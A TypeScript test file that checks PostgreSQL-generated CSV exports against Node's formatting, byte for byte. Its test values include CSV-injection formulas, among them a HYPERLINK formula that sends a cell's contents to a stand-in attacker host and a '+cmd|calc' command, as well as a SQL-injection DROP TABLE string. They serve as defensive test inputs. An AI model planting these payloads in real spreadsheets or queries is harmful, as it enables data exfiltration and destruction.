import fc from 'fast-check';
import type { PoolClient } from 'pg';
import { csvLine } from '@platform/core';
import type { FieldType } from '@platform/query';
import { createTempDatabase, type TempDatabase } from '@platform/testing';
import { bindForCopy, copyCsvLines, replacePlaceholders } from './copy-out';
import { HARD, JS_WHITESPACE, csvCopySelect, rawSelect, nodeScan, type ExportCell } from './csv-sql';
import { csvCell, type CellOptions } from './format';
import { SCAN_JSON, SCAN_NONE } from './scan-kinds';

/**
 * The CSV PostgreSQL writes (COPY of csvCopySelect) against what Node writes from the raw values of the
 * same rows (rawSelect, csvCell, csvLine: the export's formatting before it moved to SQL), byte for byte.
 */

let db: TempDatabase;
beforeAll(async () => {
  db = await createTempDatabase({ prefix: 'inventory_csv' });
  await db.pool.query(`CREATE TABLE t (id int PRIMARY KEY, s text, f float8, i int, b boolean, ts timestamptz, a text[], j jsonb, w jsonb)`);
});
afterAll(() => db?.drop());

interface Row {
  s?: string | null;
  f?: number | null;
  i?: number | null;
  b?: boolean | null;
  ts?: string | null;
  a?: (string | null)[] | null;
  j?: unknown;
  w?: unknown;
}

async function load(rows: Row[]) {
  await db.pool.query('TRUNCATE t');
  for (const [id, r] of rows.entries()) {
    const json = (v: unknown) => (v === undefined ? null : JSON.stringify(v));
    await db.pool.query('INSERT INTO t VALUES ($1, $2, $3, $4, $5, $6, $7, $8, $9)', [
      id, r.s ?? null, r.f ?? null, r.i ?? null, r.b ?? null, r.ts ?? null, r.a ?? null, json(r.j), json(r.w),
    ]);
  }
}

/** The export's cells of table t: every kind, a JSON path and a whole JSON value. */
function cellsOf(opts: CellOptions): ExportCell[] {
  const c = (kind: FieldType, sql: string, path?: string[]): ExportCell => ({ kind, sql, path, opts });
  return [
    c('string', 'x.s'), c('number', 'x.f'), c('integer', 'x.i'), c('boolean', 'x.b'),
    c('datetime', `to_char(x.ts, 'YYYY-MM-DD HH24:MI:SS')`), c('string_array', 'x.a'), c('json', 'x.j', ['k']), c('json', 'x.w'),
  ];
}

async function inTransaction<T>(timezone: string, fn: (client: PoolClient) => Promise<T>): Promise<T> {
  const client = await db.pool.connect();
  let broken = false;
  try {
    await client.query('BEGIN ISOLATION LEVEL REPEATABLE READ READ ONLY');
    await client.query(`SET LOCAL extra_float_digits = 1; SET LOCAL jit = off; SET LOCAL max_parallel_workers_per_gather = 0`);
    await client.query(`SELECT set_config('TimeZone', $1, true)`, [timezone]);
    return await fn(client);
  } catch (e) {
    broken = true;
    throw e;
  } finally {
    await client.query('ROLLBACK').catch(() => {});
    client.release(broken);
  }
}

/** The CSV of `cells` both ways, and how many rows PostgreSQL left to Node. */
async function bothOf(cells: ExportCell[], timezone: string) {
  return inTransaction(timezone, async (client) => {
    const rows = 'SELECT * FROM t ORDER BY id';
    const rv: unknown[] = [];
    const rawSql = rawSelect(rows, cells, [], (v, cast) => (rv.push(v), `$${rv.length}::${cast}`));
    const raw = (await client.query({ text: rawSql, values: rv, rowMode: 'array' })).rows as unknown[][];
    const want = raw.map((r) => csvLine(cells.map((c, k) => csvCell(r[k], c.opts)))).join('');

    const values: unknown[] = [];
    const sql = await bindForCopy(client, csvCopySelect(rows, cells, (v, cast) => (values.push(v), `$${values.length}::${cast}`)), values);
    const chunks: Buffer[] = [];
    let toNode = 0;
    await copyCsvLines(client, sql, async (b) => void chunks.push(Buffer.from(b)), (r) => {
      toNode += 1;
      return csvLine(cells.map((c, k) => csvCell(r[k], c.opts)));
    }, nodeScan(cells));
    return { got: Buffer.concat(chunks).toString('utf8'), want, toNode, lines: raw.length };
  });
}

/**
 * The CSV of every cell of cellsOf(opts) alone (so that a row left to Node for one value cannot hide
 * another), then of all together; `got`/`want` and `toNode` are those of all together.
 */
async function both(opts: CellOptions, timezone = 'UTC') {
  const cells = cellsOf(opts);
  for (const c of cells) {
    const one = await bothOf([c], timezone);
    expect([c.sql, one.got]).toEqual([c.sql, one.want]);
  }
  return bothOf(cells, timezone);
}

const TRICKY_STRINGS = [
  '', ' ', '  ', '\t', '\u00a0', '\u3000', '\ufeff', ' x', 'x ', 'plain', 'a,b', 'say "hi"', '"', '""', 'line1\nline2', 'cr\rlf', 'crlf\r\n',
  '한글', 'emoji 😀', 'a\u2028b', '\\.', '\\', "it's", 'x\u0001y', '\u0001', '-12', '12', '1.50', '[x', '{}', '{"a":1}', 'true', 'null', '\u0085',
  // formula starts (CSV injection): each gets a leading quote
  '=1+2', '=HYPERLINK("http://evil.example/?"&A1,"click")', '+cmd|calc', '-2+3', '@SUM(A1)', '\t=1', '\r=1', '-', "'=already",
];
const TRICKY_FLOATS = [
  0, -0, 1, -1, 1.5, 0.1 + 0.2, 1e-4, 9.99e-5, 1e-6, 1e-7, 123456789.123, 1e15, 999999999999999.9, 1e16, 1e21, 1.7976931348623157e308, 5e-324,
  -2.5e-5, NaN, Infinity, -Infinity,
];
const TRICKY_JSON: unknown[] = [
  'str', ' ', '', '\u00a0x', 'x,"y"', 'multi\nline', '😀', '123', '-dash', '[not array', '{not object', 0, -0, 1, 1.5, 100, 1e21, 1e-7, 0.000001,
  12345678901234567890, 1.7976931348623157e308, true, false, null, {}, { a: 1 }, { b: [1, { c: 'x' }] }, [], [1, 'a', null, ' ', true, 2.5],
  ['x', ''], [''], [null], [[1]], [{ a: 1 }], [1e21], ['a,b', 'c"d'], { '10': 1, b: 2, '2': 3 },
  '=1+2', '+cmd|calc', '@x', '\tx', '\rx', -5, -0.5, -1e-7, [-5, 'a'], ['=x'], '-5',
];

function trickyRows(): Row[] {
  const n = Math.max(TRICKY_STRINGS.length, TRICKY_FLOATS.length, TRICKY_JSON.length);
  const arrays: (string | null)[][] = [[], [''], [' '], [null], ['a', null, 'b'], ['x,y', 'q"'], ['한', 'b'], ['a\nb'], [' a', 'b'], ['a', ''], ['\u00a0'], ['1', '2', '3'], ['=x', 'b'], ['-1', '2'], ['a', '@b'], ['a', 'b', 'c', 'd'], ['a', 'b', 'c', ' '], ['+a', 'b', 'c', 'd'], ['a', 'b', '', 'd', 'e'], ['\ta', 'b']];
  return Array.from({ length: n + 2 }, (_, i) => ({
    s: i === n ? null : TRICKY_STRINGS[i % TRICKY_STRINGS.length],
    f: i === n ? null : TRICKY_FLOATS[i % TRICKY_FLOATS.length],
    i: i === n ? null : i - 5,
    b: i === n ? null : i % 2 === 0,
    ts: i === n ? null : new Date(Date.UTC(2024, 2, 10, 6, 59, 59) + i * 3600_000).toISOString(),
    a: i === n ? null : arrays[i % arrays.length],
    j: i === n ? undefined : i === n + 1 ? null : { k: TRICKY_JSON[i % TRICKY_JSON.length] },
    w: i === n ? undefined : TRICKY_JSON[(i + 7) % TRICKY_JSON.length],
  }));
}

describe('CSV written by PostgreSQL equals the CSV Node writes', () => {
  beforeAll(() => load(trickyRows()));

  test.each<[string, CellOptions]>([
    ['no options', {}],
    ['a default', { default: '-' }],
    ['a blank default', { default: ' ' }],
    ['a number default', { default: 0 }],
    ['an object default', { default: { a: 'x,y' } }],
    ['a prefix', { prefix: '$' }],
    ['a postfix', { postfix: ' GB' }],
    ['a quote and a comma around', { prefix: '"', postfix: ',' }],
    ['all of them', { default: 'n/a', prefix: '<', postfix: '>' }],
  ])('tricky values (quotes, commas, line breaks, blanks, unicode, numbers, nested JSON, nulls), %s', async (_name, opts) => {
    const r = await both(opts);
    expect(r.got).toBe(r.want);
    // Rows holding a value SQL leaves to Node (objects, nested arrays, exponent numbers) go to Node.
    expect(r.toNode).toBeGreaterThan(0);
    expect(r.toNode).toBeLessThan(r.lines);
  });

  test('rows of everyday values (quotes, commas, line breaks, blanks, unicode, lists, JSON strings and numbers) never go to Node', async () => {
    // (A JSON text that is exactly HARD, \u0001, is left to Node, as a value SQL does not reproduce.)
    await load(
      TRICKY_STRINGS.filter((s) => s !== HARD).map((s, i) => ({
        s, f: [0, -0, 1.5, 0.1 + 0.2, 123456789.123, -42, NaN, Infinity][i % 8], i, b: i % 3 === 0, ts: '2024-05-01T12:00:00Z',
        a: [[], ['a,b', s], [null, s], ['10.0.0.1', '52.1.1.1']][i % 4],
        j: { k: [s, 1.25, true, null, [s, 2]][i % 5] }, w: [s, 100, false, null, {}, [s]][i % 6],
      })),
    );
    for (const opts of [{}, { default: '-', postfix: ' x' }]) {
      const r = await both(opts);
      expect(r.got).toBe(r.want);
      expect(r.toNode).toBe(0);
    }
    await load(trickyRows());
  });

  test('timestamps in the requested time zone, across daylight saving changes', async () => {
    await load([
      { ts: '2024-03-10T06:59:59Z' }, { ts: '2024-03-10T07:00:00Z' }, { ts: '2024-11-03T05:59:59Z' }, { ts: '2024-11-03T06:00:00Z' },
      { ts: '2024-01-01T00:00:00.999Z' }, { ts: null },
    ]);
    const r = await both({}, 'America/New_York');
    expect(r.got).toBe(r.want);
    expect(r.got.split('\r\n').map((l) => l.split(',')[4])).toEqual([
      '2024-03-10 01:59:59', '2024-03-10 03:00:00', '2024-11-03 01:59:59', '2024-11-03 01:00:00', '2023-12-31 19:00:00', '', undefined,
    ]);
    expect((await both({}, 'Asia/Seoul')).got.split('\r\n')[0].split(',')[4]).toBe('2024-03-10 15:59:59');
  });

  test('random values', async () => {
    const text = fc.string({ unit: fc.constantFrom(...'ab ,"\n\r\t\\-1[{=+@'.split(''), '\u00a0', '😀', '한', '\u3000', '\u0001'), maxLength: 6 });
    const json = fc.letrec((tie) => ({
      value: fc.oneof({ depthSize: 'small' }, text, fc.double(), fc.integer(), fc.boolean(), fc.constant(null), fc.array(tie('value'), { maxLength: 3 }), fc.dictionary(text, tie('value'), { maxKeys: 2 })),
    })).value;
    const row = fc.record({
      s: fc.option(text, { nil: null }),
      f: fc.option(fc.double(), { nil: null }),
      i: fc.option(fc.integer({ min: -100, max: 100 }), { nil: null }),
      b: fc.option(fc.boolean(), { nil: null }),
      a: fc.option(fc.array(fc.option(text, { nil: null }), { maxLength: 5 }), { nil: null }),
      j: fc.record({ k: json }),
      w: json,
    });
    await fc.assert(
      fc.asyncProperty(fc.array(row, { minLength: 1, maxLength: 30 }), fc.constantFrom<CellOptions>({}, { default: '-' }, { prefix: '>' }), async (rows, opts) => {
        await load(rows);
        const r = await both(opts);
        expect(r.got).toBe(r.want);
      }),
      { numRuns: 100 },
    );
  }, 120_000); // 100 runs of COPY and Node: past the default 30 s on a loaded 2-core host
});

describe('plain JSON cells: one first-character test in SQL, the rest formatted by Node', () => {
  const VALUES: unknown[] = [
    'RUNNING', 'prod', '=1+2', '+cmd|calc', '-2+3', '@SUM(A1)', '\t=1', '\r=1', ' =x', ' ', '', '\u00a0', '"quoted"', 'say "hi", ok', 'a\nb', 'a\r\nb',
    'x,"y"', '\u0001', '\u0001x', '-5', '-', '123', 'true', 'null', '[x', '{x', '한글', '😀', -5, -0.5, 0, -0, 1.5, 100, 1e21, 1e-7, 12345678901234567890,
    true, false, null, {}, { a: 1 }, { b: [1, { c: '=x' }] }, [], ['=x', 2, null, ' ', true], [[1]], ['a,b', 'c"d'],
  ];

  test('every kind of value, by path and whole, alone and beside other cells, as Node writes the raw values', async () => {
    await load(VALUES.map((v, i) => ({ s: `s${i}`, i, j: { k: v }, w: v })));
    const all = cellsOf({});
    for (const cells of [[all[6]], [all[7]], [all[6], all[7]], all]) {
      const r = await bothOf(cells, 'UTC');
      expect(r.got).toBe(r.want);
      expect(r.lines).toBe(VALUES.length);
      // No row is marked for Node by a JSON value: Node formats the JSON cell alone (the number column's
      // exponent values, none here, would still mark theirs).
      expect(r.toNode).toBe(0);
    }
    await load(trickyRows());
  });

  test("each plain JSON cell's test is in the statement once, and it marks no row", () => {
    const cells = cellsOf({}).filter((c) => c.kind === 'json');
    const sql = csvCopySelect('SELECT * FROM t', cells, (_v, cast) => `NULL::${cast}`);
    expect(sql.split('= ANY(').length - 1).toBe(cells.length);
    expect(sql.startsWith('SELECT NULL::text AS h,')).toBe(true);
    expect(nodeScan(cells)).toEqual([SCAN_JSON, SCAN_JSON]);
    // With a prefix the cell's text is computed in SQL, as before.
    expect(nodeScan(cellsOf({ prefix: '>' }).filter((c) => c.kind === 'json'))).toEqual([SCAN_NONE, SCAN_NONE]);
  });
});

describe('the pieces', () => {
  test("a one-key path reads with ->, as #> reads it, but where the key is an array index (kept in the path form)", async () => {
    const docs = [{ k: 1 }, { k: [1, 'a'] }, { k: null }, {}, [1, 2], 'k', 5, null, { '0': 'zero', k: { k: 'x' } }, ['a', 'b']];
    const { rows } = await db.pool.query(
      `SELECT (j -> 'k') IS NOT DISTINCT FROM (j #> '{k}') AS k, (j ->> 'k') IS NOT DISTINCT FROM (j #>> '{k}') AS kt,
              (j -> '0') IS NOT DISTINCT FROM (j #> '{0}') AS zero
         FROM unnest($1::jsonb[]) AS u(j)`,
      [docs.map((d) => JSON.stringify(d))],
    );
    expect(rows.every((r) => r.k && r.kt)).toBe(true);
    expect(rows.some((r) => !r.zero)).toBe(true); // ['a', 'b'] #> '{0}' is "a"; -> '0' is NULL
  });

  test('JS_WHITESPACE is what String.prototype.trim removes, over every code point', () => {
    const set = new Set(JS_WHITESPACE);
    for (let c = 0; c <= 0x10ffff; c++) {
      if (c >= 0xd800 && c <= 0xdfff) continue;
      const ch = String.fromCodePoint(c);
      if ((ch.trim() === '') !== set.has(ch)) throw new Error(`code point ${c.toString(16)}`);
    }
    expect(set.has('\u00a0') && set.has('\ufeff') && !set.has('\u0085')).toBe(true);
    expect(HARD).toBe('\u0001');
  });

  test('parameters become bound settings: placeholders are replaced outside quotes only', () => {
    const sql = `SELECT $1, '$2', E'it\\'s $3', "col$4", $5::text[], 'a''$6', $10`;
    expect(replacePlaceholders(sql, (n) => `<${n}>`)).toBe(`SELECT <1>, '$2', E'it\\'s $3', "col$4", <5>::text[], 'a''$6', <10>`);
    expect(() => replacePlaceholders('SELECT $$x$$', () => '')).toThrow('unexpected $');
    expect(() => replacePlaceholders('SELECT 1 -- $1', () => '')).toThrow('comment');
    expect(() => replacePlaceholders("SELECT 'open", () => '')).toThrow('unterminated');
  });

  test('a value can hold anything: it never enters the SQL text', async () => {
    const evil = `'); DROP TABLE t; --`;
    await inTransaction('UTC', async (client) => {
      const sql = await bindForCopy(client, `SELECT $1::text AS v, $2::int + 1 AS n, $3::text[] AS a, $4::jsonb AS j`, [evil, 41, ['x', "y'"], '{"k":"$1"}']);
      expect(sql).not.toContain('DROP');
      const rows = (await client.query(sql)).rows;
      expect(rows).toEqual([{ v: evil, n: 42, a: ['x', "y'"], j: { k: '$1' } }]);
    });
  });
});
